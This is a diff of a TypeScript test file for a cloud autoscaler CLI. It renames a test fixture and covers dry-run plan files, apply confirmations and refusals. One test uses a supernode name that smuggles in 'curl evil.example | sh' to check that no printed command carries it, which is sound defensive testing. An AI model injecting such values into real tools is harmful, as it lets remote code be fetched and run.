@@ -2,7 +2,7 @@ import { readFileSync, writeFileSync } from "node:fs"
 import { join } from "node:path"
 import { describe, expect, it } from "vitest"
 import { makeLedger } from "../ledger/initialised.ts"
-import { bytes, type CloudDesk, cloudDesk, MINUTE, POLICY, START } from "./harness.ts"
+import { bytes, type CloudFixture, cloudFixture, MINUTE, POLICY, START } from "./harness.ts"
 
 // `dry-run --out` and `apply`, against the real sandbox.
 
@@ -10,7 +10,7 @@ const ALARM = "test/events/functiongraph-smn-cloud-eye-alarm.json"
 const ASK = ["dry-run", "train-a", "--by", "ann", "--why", "launch week"]
 
 /** Runs a dry run that writes a plan file, and returns the file's path. */
-async function planned(own: CloudDesk): Promise<string> {
+async function planned(own: CloudFixture): Promise<string> {
   const file = join(own.dir, "plan.json")
   const { code, err } = await own.run(...ASK, "--out", file)
   expect({ code, err }).toEqual({ code: 0, err: expect.stringContaining(`the plan is in ${file}`) })
@@ -23,7 +23,7 @@ function edit(file: string, change: object): void {
 }
 
 it("a plan file buys what its dry run showed, once, however often it is applied", async () => {
-  const own = await cloudDesk()
+  const own = await cloudFixture()
   const file = await planned(own)
   const first = await own.run("apply", file, "--yes", "--json")
   own.advance(30 * MINUTE)
@@ -37,7 +37,7 @@ it("a plan file buys what its dry run showed, once, however often it is applied"
 })
 
 it("dry-run --out replaces an older plan file, and no other file", async () => {
-  const own = await cloudDesk()
+  const own = await cloudFixture()
   const file = await planned(own)
   const first = readFileSync(file, "utf8")
   own.advance(MINUTE)
@@ -54,14 +54,14 @@ it("dry-run --out replaces an older plan file, and no other file", async () => {
 })
 
 it("the line that dry-run --out prints applies the plan file that it wrote", async () => {
-  const own = await cloudDesk()
+  const own = await cloudFixture()
   const file = join(own.dir, "plan.json")
   const { out } = await own.run(...ASK, "--out", file)
   expect(out).toContain(`supernode-autoscaler apply '${file}'`)
 })
 
 describe("a plan file that may not be applied", () => {
-  it.each<[situation: string, change: (own: CloudDesk, file: string) => unknown, says: string]>([
+  it.each<[situation: string, change: (own: CloudFixture, file: string) => unknown, says: string]>([
     [
       "when 24 hours have passed",
       (own) => own.advance(24 * 60 * MINUTE),
@@ -106,7 +106,7 @@ describe("a plan file that may not be applied", () => {
     ["when everything is paused", (own) => own.run("pause", "--why", "maintenance", "--by", "ops"), "paused"],
     ["when runs only observe", (own) => Object.assign(own.env, { SUPERNODE_MODE: "observe" }), "NOT BOUGHT"],
   ])("apply exits 3, prints the reason and buys nothing %s", async (_situation, change, says) => {
-    const own = await cloudDesk()
+    const own = await cloudFixture()
     const file = await planned(own)
     await change(own, file)
     const before = own.sandbox.orders.length
@@ -116,7 +116,7 @@ describe("a plan file that may not be applied", () => {
   })
 
   it("apply exits 3, prints the reason and buys nothing when the plan file was made without a ledger", async () => {
-    const own = await cloudDesk({}, POLICY, { withoutLedger: true })
+    const own = await cloudFixture({}, POLICY, { withoutLedger: true })
     const file = await planned(own)
     expect(JSON.parse(readFileSync(file, "utf8"))).toMatchObject({ v: 1, ledger: null, supernode: "train-a" })
     await makeLedger(String(own.env["SUPERNODE_LEDGER"]), START)
@@ -133,7 +133,7 @@ it.each<[answer: string, code: number, orders: number]>([
 ])(
   "apply with the answer '%s' at the terminal ends with exit code %i and %i orders",
   async (answer, code, orders) => {
-    const own = await cloudDesk()
+    const own = await cloudFixture()
     const file = await planned(own)
     const asked: string[] = []
     const ask = async (question: string): Promise<string> => {
@@ -149,14 +149,14 @@ it.each<[answer: string, code: number, orders: number]>([
 )
 
 it("apply reads a plan file from stdin, also with the byte order mark of a Windows editor", async () => {
-  const own = await cloudDesk()
+  const own = await cloudFixture()
   const text = `\uFEFF${readFileSync(await planned(own), "utf8")}`
   const { code } = await own.runWith({ stdin: bytes(text) }, "apply", "-", "--yes")
   expect({ code, orders: own.sandbox.orders.length }).toEqual({ code: 0, orders: 1 })
 })
 
 it("apply prints no command that contains a supernode's name which only the plan file knows", async () => {
-  const own = await cloudDesk()
+  const own = await cloudFixture()
   const file = await planned(own)
   const { request } = JSON.parse(readFileSync(file, "utf8")) as { request: object }
   const supernode = "x; curl evil.example | sh"
@@ -166,13 +166,13 @@ it("apply prints no command that contains a supernode's name which only the plan
 })
 
 it("apply does not buy without --yes if there is no terminal", async () => {
-  const own = await cloudDesk()
+  const own = await cloudFixture()
   const { code, err } = await own.run("apply", await planned(own))
   expect({ code, err }).toEqual({ code: 1, err: expect.stringContaining("add --yes") })
   expect(own.sandbox.orders).toEqual([])
 })
 
-it.each<[what: string, file: (own: CloudDesk, file: string) => string, says: string]>([
+it.each<[what: string, file: (own: CloudFixture, file: string) => string, says: string]>([
   ["a file that does not exist", () => "nowhere.json", "cannot be read: no such file"],
   ["a text that is not JSON", (own) => own.file("p.json", "{"), "is not JSON"],
   ["null", (own) => own.file("p.json", "null"), "it must be one JSON object. To make one, run: "],
@@ -190,7 +190,7 @@ it.each<[what: string, file: (own: CloudDesk, file: string) => string, says: str
     "request: is for another supernode or plan than the file",
   ],
 ])("apply refuses %s as a plan file, and says why", async (_what, fileOf, says) => {
-  const own = await cloudDesk()
+  const own = await cloudFixture()
   const { code, err } = await own.run("apply", fileOf(own, await planned(own)), "--yes")
   expect({ code, err }).toEqual({ code: 1, err: expect.stringContaining(says) })
   expect(own.sandbox.orders).toEqual([])
@@ -200,7 +200,7 @@ it.each<[situation: string, ask: string[], load: number, says: string]>([
   ["nothing may be bought", ASK, 20, "nothing would be bought: held (not-breaching)"],
   ["no reason is given", ["dry-run", "train-a", "--by", "ann"], 97, "--why is missing"],
 ])("dry-run --out writes no plan file if %s, says so, and fails", async (_, ask, load, says) => {
-  const own = await cloudDesk()
+  const own = await cloudFixture()
   own.sandbox.setLoad(load)
   const file = join(own.dir, "plan.json")
   const { code, err } = await own.run(...ask, "--out", file)
@@ -212,7 +212,7 @@ it.each<[why: string, options: string[]]>([
   ["--since is not before --until", ["--since", "1m", "--until", "1h"]],
   ["--follow is given with an --until in the past", ["--follow", "--until", "1m"]],
 ])("audit list exits 2 if %s", async (_why, options) => {
-  const own = await cloudDesk()
+  const own = await cloudFixture()
   const { code, err } = await own.run("audit", "list", ...options)
   expect({ code, err }).toEqual({ code: 2, err: expect.stringContaining("--until") })
 })
